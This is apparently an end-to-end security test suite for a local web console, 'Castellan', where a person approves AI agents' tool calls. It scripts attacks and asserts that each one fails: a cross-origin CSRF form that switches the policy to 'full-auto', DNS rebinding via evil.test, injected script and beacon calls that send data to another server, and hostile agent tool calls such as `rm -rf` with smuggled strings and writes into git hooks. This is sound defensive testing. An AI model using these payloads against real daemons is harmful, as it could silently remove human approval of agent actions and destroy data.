// The attackers of a person's browser: a page of another port of this machine that is sent the cookie, a name in DNS that was
// turned to this machine, and an agent that chooses every text it can. They get nothing done, nothing said, nothing run.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { PERSON, verifies } from '@castellan/testkit';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect } from 'vitest';
import { DELETE, MAIL, type TestAgent, type World, world } from '../e2e/support/world.ts';
import { CHROMIUM, DESK, hasChromium, openPage, PHONE, signInPage } from './support/browser.ts';
import { ask, inTurn } from './support/calls.ts';
import { ANSI, EVIL, hostileServer, LONG, UNSEEN } from './support/hostile-texts.ts';
import { originOf } from './support/stage.ts';

const options = { skip: !hasChromium, timeout: 120_000 };

/** Someone else's page, at a port of its own; what it is asked for is kept. */
interface Elsewhere {
  readonly origin: string;
  readonly server: Server;
  readonly asked: { readonly url: string; readonly cookie: string }[];
}
async function elsewhere(): Promise<Elsewhere> {
  const asked: { url: string; cookie: string }[] = [];
  const server = createServer((request, response) => {
    asked.push({ url: request.url ?? '', cookie: request.headers.cookie ?? '' });
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<!doctype html><title>dev server</title><p id=p>x</p>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, server, asked };
}

let it: World;
let agent: TestAgent;
let chrome: Browser;
let dev: Elsewhere;
let origin = '';
let cwd = '';

const MODULE = `schema: castellan/module/v1
name: evil
version: "1"
title: "Store ${EVIL.replaceAll('"', "'")}"
start: { kind: mcp, command: npx, args: [evil] }
tools:
  critical:
    - { name: take, label: "Take ${EVIL.replaceAll('"', "'")}", summary: "Take {what}", effects: [{ kind: spend, from: what }] }
`;

beforeAll(async () => {
  if (!hasChromium) return;
  it = await world({ approvals: { timeoutSeconds: 600 } });
  origin = originOf(it.daemon.state.port);
  dev = await elsewhere();
  chrome = await chromium.launch({
    executablePath: CHROMIUM,
    args: [...(process.getuid?.() === 0 ? ['--no-sandbox'] : []), '--host-resolver-rules=MAP evil.test 127.0.0.1'],
  });
  const { home } = it.daemon;
  mkdirSync(join(home, 'modules'), { recursive: true });
  writeFileSync(join(home, 'modules', 'evil.yaml'), MODULE);
  const loaded = await it.daemon.request('POST', '/v1/policy', { body: { change: 'reload' } });
  expect(loaded.status, loaded.text).toBe(200);
  agent = await it.connect(`Agent ${EVIL}`.slice(0, 80), 900);
  cwd = join(home, '..', 'site');
  mkdirSync(cwd);
  await agent.hook({
    session_id: 's1',
    cwd,
    hook_event_name: 'UserPromptSubmit',
    prompt: `Task ${EVIL} ${UNSEEN} ${ANSI} ${LONG}`,
  });
  await inTurn(it, [
    () => ask(agent, DELETE, { id: `m1 ${EVIL} ${UNSEEN} ${ANSI}` }, cwd, { server: MAIL }),
    () =>
      ask(
        agent,
        'mcp__mail__send',
        { to: `a@acme.com ${EVIL}`, subject: `${UNSEEN}${EVIL}`, body: `${ANSI}\n${EVIL}\n${LONG}` },
        cwd,
        { server: MAIL },
      ),
    () =>
      ask(agent, 'Bash', { command: `rm -rf "${UNSEEN}" '${EVIL}' # ${LONG}`, description: `${EVIL}${UNSEEN}` }, cwd),
    () =>
      ask(
        agent,
        'Write',
        { file_path: join(cwd, '.git', 'hooks', `pre-${UNSEEN}<b data-evil>`), content: `${EVIL}\n${UNSEEN}\n${ANSI}` },
        cwd,
      ),
    () =>
      ask(agent, 'mcp__evil__take', { what: EVIL, [`<b data-evil>${UNSEEN}`]: LONG }, cwd, {
        server: { name: 'evil', source: 'user' },
      }),
    () => ask(agent, 'mcp__x_b_data-evil__y', { a: EVIL }, cwd, { server: { name: `x${EVIL}`, source: 'user' } }),
  ]);
  await hostileServer(it, cwd);
});

afterAll(async () => {
  await chrome?.close();
  dev?.server.close();
  await it?.[Symbol.asyncDispose]();
});

/** As the page of somebody else does it: everything it can try, told as what came of it. */
const TRIES = `async (origin) => {
  const out = {};
  const told = async (name, run) => {
    try { out[name] = await run(); } catch (error) { out[name] = 'refused: ' + error.name; }
  };
  const host = new URL(origin).host;
  for (const mode of ['cors', 'no-cors'])
    await told('read ' + mode, async () => {
      const reply = await fetch(origin + '/v1/status', { credentials: 'include', mode });
      return reply.type + ' ' + reply.status + ' ' + (await reply.text()).length;
    });
  for (const mode of ['cors', 'no-cors'])
    await told('change ' + mode, async () => {
      const body = mode === 'cors' ? '{"change":"preset","preset":"full-auto"}' : new Blob(['{"change":"preset","preset":"full-auto"}'], { type: 'text/plain' });
      const headers = mode === 'cors' ? { 'content-type': 'application/json', 'x-castellan-csrf': 'a'.repeat(43) } : {};
      const reply = await fetch(origin + '/v1/policy', { method: 'POST', credentials: 'include', mode, headers, body });
      return reply.type + ' ' + (await reply.text()).length;
    });
  await told('socket', () => new Promise((resolve) => {
    const socket = new WebSocket('ws://' + host + '/v1/socket?token=' + 'a'.repeat(43));
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve('refused');
  }));
  await told('image', () => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve('loaded');
    image.onerror = () => resolve('refused');
    image.src = origin + '/icon.svg';
  }));
  await told('script', () => new Promise((resolve) => {
    const script = document.createElement('script');
    script.onload = () => resolve('loaded');
    script.onerror = () => resolve('refused');
    script.src = origin + '/service-worker.js';
    document.head.append(script);
  }));
  await told('frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.onload = () => { try { resolve(frame.contentDocument === null ? 'nothing to see' : 'readable'); } catch { resolve('nothing to see'); } };
    setTimeout(resolve, 5000, 'never loaded');
    frame.src = origin + '/';
    document.body.append(frame);
  }));
  await told('form', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'sink';
    document.body.append(frame);
    const form = document.createElement('form');
    form.method = 'POST'; form.action = origin + '/v1/policy'; form.target = 'sink'; form.enctype = 'text/plain';
    const field = document.createElement('input');
    field.name = '{"change":"preset","preset":"full-auto","x":"'; field.value = '"}';
    form.append(field); document.body.append(form);
    frame.onload = () => resolve('sent');
    setTimeout(resolve, 5000, 'sent');
    form.submit();
  }));
  await told('window', () => new Promise((resolve) => {
    const opened = window.open(origin + '/', '_blank');
    setTimeout(() => {
      try { resolve(opened === null || opened.closed ? 'cut off' : 'holds it: ' + (opened.document === null) + opened.length); } catch (error) { resolve('refused: ' + error.name); }
    }, 3000);
  }));
  return out;
}`;

const policy = async (): Promise<string> =>
  ((await it.daemon.request('GET', '/v1/policy')).json() as { preset: string }).preset;

verifies(
  ['A10', 'N3', 'A4'],
  'a page of another port of this machine is sent the cookie, and neither reads nor changes nor frames anything',
  async () => {
    const { page, context } = await openPage(chrome, DESK, origin);
    await signInPage(page, PERSON);
    await page.goto('/');
    await page.getByRole('status').filter({ hasText: /wait/ }).first().waitFor();
    const other = await context.newPage();
    await other.goto(dev.origin);
    expect(dev.asked.at(-1)?.cookie, 'cookies know no ports: that is why one half is nobody').toContain(
      'castellan_session=',
    );
    // Sent by the attacker's own server, the cookie alone is nobody.
    const cookie = dev.asked.at(-1)?.cookie ?? '';
    const used = await it.daemon.request('GET', '/v1/status', { token: null, headers: { cookie } });
    expect(used.status, used.text).toBe(403);
    expect(used.text).toContain('no_csrf');
    const came = (await other.evaluate(`(${TRIES})(${JSON.stringify(origin)})`)) as Record<string, string>;
    expect(came).toMatchObject({
      'read cors': 'refused: TypeError',
      'change cors': 'refused: TypeError',
      socket: 'refused',
      image: 'refused',
      script: 'refused',
      frame: 'nothing to see',
      form: 'sent',
    });
    for (const name of ['read no-cors', 'change no-cors']) expect(came[name], name).toMatch(/^refused|^opaque (0 )?0$/);
    expect(came.window, 'its window is no handle to ours').toMatch(/^cut off|^refused/);
    expect(await policy(), 'and nothing was changed').toBe('autonomous');
    expect(await other.evaluate(() => localStorage.getItem('castellan.csrf')), 'the other half').toBeNull();
    await context.close();
  },
  options,
);

verifies(
  ['N3', 'A10'],
  'a name that was turned to this machine gets no page, no answer and no sign-in',
  async () => {
    const context = await chrome.newContext();
    const page = await context.newPage();
    const at = `http://evil.test:${it.daemon.state.port}`;
    const first = await page.goto(`${at}/`);
    expect(first?.status() ?? 0).toBeGreaterThanOrEqual(400);
    expect(await page.content()).not.toContain('Castellan</title>');
    for (const path of ['/v1/setup', '/v1/status', '/assets/x.js', '/service-worker.js', '/manifest.webmanifest']) {
      const reply = await page.goto(`${at}${path}`);
      expect(reply?.status() ?? 0, path).toBeGreaterThanOrEqual(400);
      expect(reply?.status() ?? 0, path).toBeLessThan(405);
    }
    // From a page of its own, under the same name.
    await page.goto(`http://evil.test:${new URL(dev.origin).port}/`);
    for (const [method, path] of [
      ['GET', '/v1/setup'],
      ['POST', '/v1/sign-in'],
    ] as const) {
      const told = await page.evaluate(
        async ([asked, how]) => {
          const body = how === 'POST' ? JSON.stringify({ name: 'mia', password: 'x' }) : null;
          const reply = await fetch(asked, { method: how, mode: 'no-cors', body }).catch(() => null);
          return reply === null ? 'refused' : `${reply.type} ${(await reply.text()).length}`;
        },
        [`${at}${path}`, method] as const,
      );
      expect(told, path).toMatch(/^refused$|^opaque 0$/);
    }
    await context.close();
  },
  options,
);

/** What a hole in our own page would let in, tried from inside of it. Each is told as whether it did anything. */
const INSIDE = `async (elsewhere) => {
  const out = {};
  const refused = [];
  addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
  // The driver itself may make code from text while it calls; what runs after a timer is as the page's own.
  await new Promise((resolve) => setTimeout(resolve, 50));
  const attempt = (name, run) => { try { run(); out[name] = 'done'; } catch (error) { out[name] = error.name; } };
  attempt('eval', () => (0, eval)('globalThis.owned = 1'));
  attempt('function', () => new Function('globalThis.owned = 1')());
  attempt('timer', () => setTimeout('globalThis.owned = 1', 0));
  attempt('markup', () => { document.createElement('div').innerHTML = '<img src=x onerror="globalThis.owned=1">'; });
  attempt('write', () => document.write('<script>globalThis.owned=1</script>'));
  attempt('inline script', () => { const s = document.createElement('script'); s.append('globalThis.owned=1'); document.body.append(s); });
  attempt('script elsewhere', () => { const s = document.createElement('script'); s.src = elsewhere + '/s.js'; document.body.append(s); });
  attempt('handler', () => { const b = document.createElement('button'); b.setAttribute('onclick', 'globalThis.owned=1'); document.body.append(b); b.click(); });
  attempt('style', () => { const s = document.createElement('style'); s.append('body{outline:7px solid red}'); document.body.append(s); });
  attempt('style attribute', () => document.body.setAttribute('style', 'outline:7px solid red'));
  attempt('image', () => { const i = new Image(); i.src = elsewhere + '/i.png'; document.body.append(i); });
  attempt('frame', () => { const f = document.createElement('iframe'); f.src = elsewhere + '/f'; document.body.append(f); });
  attempt('object', () => { const o = document.createElement('object'); o.data = elsewhere + '/o'; document.body.append(o); });
  attempt('base', () => { const b = document.createElement('base'); b.href = elsewhere; document.head.append(b); });
  attempt('form', () => { const f = document.createElement('form'); f.action = elsewhere + '/form'; document.body.append(f); f.submit(); });
  attempt('socket', () => new WebSocket(elsewhere.replace('http', 'ws') + '/ws'));
  attempt('beacon', () => navigator.sendBeacon(elsewhere + '/beacon', 'x'));
  out.fetch = await fetch(elsewhere + '/fetch', { mode: 'no-cors' }).then(() => 'done', (error) => error.name);
  await new Promise((resolve) => setTimeout(resolve, 500));
  return { out, refused, owned: globalThis.owned ?? null, outline: getComputedStyle(document.body).outlineWidth, base: document.baseURI };
}`;

verifies(
  ['W2'],
  'what a hole in the page would let in does not run, does not show and does not leave',
  async () => {
    const { page, context } = await openPage(chrome, DESK, origin);
    await signInPage(page, PERSON);
    await page.goto('/');
    await page.getByRole('status').filter({ hasText: /wait/ }).first().waitFor();
    const before = dev.asked.length;
    const came = (await page.evaluate(`(${INSIDE})(${JSON.stringify(dev.origin)})`)) as {
      readonly out: Record<string, string>;
      readonly refused: readonly string[];
      readonly owned: unknown;
      readonly outline: string;
      readonly base: string;
    };
    expect(came.owned).toBeNull();
    expect(came.outline).not.toBe('7px');
    expect(came.base.startsWith(origin)).toBe(true);
    for (const name of ['eval', 'function', 'markup', 'write', 'fetch']) expect(came.out[name], name).not.toBe('done');
    for (const directive of ['img-src', 'connect-src', 'form-action', 'base-uri', 'style-src-elem'])
      expect(came.refused, directive).toContain(directive);
    expect(dev.asked.length, 'nothing was asked elsewhere').toBe(before);
    await context.close();
  },
  options,
);

/** What of it is no text: elements that an agent named, code that ran, characters that cannot be seen. */
async function notText(page: Page): Promise<readonly string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ('owned' in globalThis) found.push('code ran');
    for (const each of document.querySelectorAll('[data-evil], img[src="x"], [onerror]'))
      found.push(`markup: ${each.outerHTML.slice(0, 80)}`);
    const unseen = /[\u202a-\u202e\u2066-\u2069\u200b-\u200d\ufeff\u00ad\u001b\u0007]/u;
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      const text = node.textContent ?? '';
      const at = text.search(unseen);
      if (at >= 0 && node.parentElement?.closest('script, style') === null)
        found.push(
          `unseen ${text.codePointAt(at)?.toString(16)} in <${node.parentElement?.tagName}>: ${text.slice(Math.max(0, at - 20), at + 20)}`,
        );
    }
    const wide = document.documentElement.scrollWidth - innerWidth;
    if (wide > 0) found.push(`${wide} px wider than the screen`);
    return found;
  });
}

const PAGES_FILE = readFileSync(
  join(import.meta.dirname, '..', '..', 'packages', 'web', 'src', 'app', 'pages.ts'),
  'utf8',
);
const PATHS = [...PAGES_FILE.matchAll(/path: '([^']+)'/g)].map(([, path]) => path ?? '');

for (const screen of [DESK, PHONE])
  verifies(
    ['W2', 'H1'],
    `what an agent calls things is text on every page, whole and visible, and asks nobody elsewhere: ${screen.name}`,
    async () => {
      expect(PATHS.length).toBeGreaterThan(10);
      const approvals = (await it.approvals()).filter(
        ({ state }) => state.kind === 'pending' || state.kind === 'queued',
      );
      expect(approvals.length).toBeGreaterThan(3);
      const { page, context, faults } = await openPage(chrome, screen, origin);
      await signInPage(page, PERSON);
      const found: string[] = [];
      for (const path of [...PATHS, '/modules/tales', ...approvals.map(({ id }) => `/?approval=${id}`)]) {
        await page.goto(path);
        await page.locator('main > [inert]').waitFor({ state: 'detached' });
        await page.locator('main h1, main h2').first().waitFor();
        await page.locator('[role=status]:has-text("Loading")').first().waitFor({ state: 'detached' });
        for (const summary of await page.locator('main details > summary').all())
          await summary.click().catch(() => undefined);
        // What was folded is whole once it is opened.
        const folded = page.locator('main').getByRole('button', { name: /^Show .* more (character|line)s?$/ });
        for (let left = await folded.count(); left > 0; left -= 1) await folded.first().click();
        found.push(...(await notText(page)).map((each) => `${path.slice(0, 12)}: ${each}`));
        if (path === '/modules/tales') {
          const shown = (await page.locator('main').textContent()) ?? '';
          for (const part of [EVIL, 'U+202E', 'U+001B', '-end', 'IMPORTANT: '])
            if (!shown.includes(part)) found.push(`${path}: nowhere says ${part}`);
          if ((await page.locator('main a[href^="http"], main a[href^="javascript"]').count()) > 0)
            found.push(`${path}: a link that leads elsewhere`);
        }
        if (!path.startsWith('/?')) continue;
        const approval = approvals.find(({ id }) => path.endsWith(id));
        const shown = await page.getByRole('article').textContent();
        if (JSON.stringify(approval?.arguments).includes('\u202e') && !shown?.includes('U+202E'))
          found.push(`${approval?.tool}: the turned text is not shown as such`);
      }
      expect([...new Set(found)]).toEqual([]);
      expect(faults).toEqual([]);
      await context.close();
    },
    options,
  );

verifies(['W2'], 'this suite looked at the pages that are built', () => {
  expect(existsSync(join(import.meta.dirname, '..', '..', 'packages', 'web', 'dist', 'index.html'))).toBe(true);
});
